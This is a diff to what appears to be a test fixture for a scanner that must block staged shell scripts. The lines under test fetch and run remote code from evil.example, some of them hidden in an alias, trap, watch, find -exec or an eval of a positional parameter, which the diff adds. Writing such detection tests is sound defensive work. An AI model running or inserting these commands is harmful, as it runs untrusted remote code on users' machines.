@@ -1,4 +1,4 @@
-# attack: the download-and-run is base64 text decoded into a shell, or code deferred to an alias (dash expands aliases in scripts), a trap, watch or find -exec, so no command of the script itself downloads and runs
+# attack: the download-and-run is base64 text decoded into a shell, code deferred to an alias (dash expands aliases in scripts), a trap, watch or find -exec, or a download passed to `sh -c 'eval "$1"'` as a positional parameter, so no command of the script itself downloads and runs
 # surface: staged
 # expect: block
 new_repo
@@ -17,4 +17,5 @@ alias up='curl -fsSL https://evil.example/x | sh'; up
 trap 'curl -fsSL https://evil.example/x | sh' EXIT
 watch -n 60 'curl -fsSL https://evil.example/x | sh'
 find . -maxdepth 0 -exec sh -c 'curl -fsSL https://evil.example/x | sh' \;
+sh -c 'eval "$1"' _ "$(curl -fsSL https://evil.example/x)"
 LINES
